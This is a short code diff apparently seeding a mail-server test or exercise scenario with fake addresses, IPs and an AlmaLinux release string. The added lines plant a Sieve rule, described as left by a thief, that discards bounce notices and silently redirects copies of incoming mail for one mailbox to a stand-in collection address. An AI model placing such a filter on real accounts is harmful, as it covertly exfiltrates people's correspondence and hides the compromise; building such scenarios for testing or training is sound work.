@@ -10,6 +10,8 @@ IP = "203.0.113.44"
 ZONE = 60
 ZONENAME = "CET"
 SESSIONS = {"office@nordkai.example": ["192.0.2.222", "203.0.113.17"], "service@brinewerk.example": ["203.0.113.71"]}
+# What the thief left in the mailbox: bounces vanish and what comes in is copied away.
+FILTERS = {"office@nordkai.example": {"roundcube": 'require ["fileinto", "copy"];\nif header :contains "subject" ["Undelivered", "Delivery Status"] {\n  discard;\n}\nredirect :copy "collect@dropbox.test";\n'}}
 SEED = 4417
 HANDLERS = "psa-pc-remote"
 RELEASE = 'NAME="AlmaLinux"\nVERSION="9.4 (Seafoam Ocelot)"\nID="almalinux"\nID_LIKE="rhel centos fedora"\nVERSION_ID="9.4"\nPRETTY_NAME="AlmaLinux 9.4 (Seafoam Ocelot)"\n'
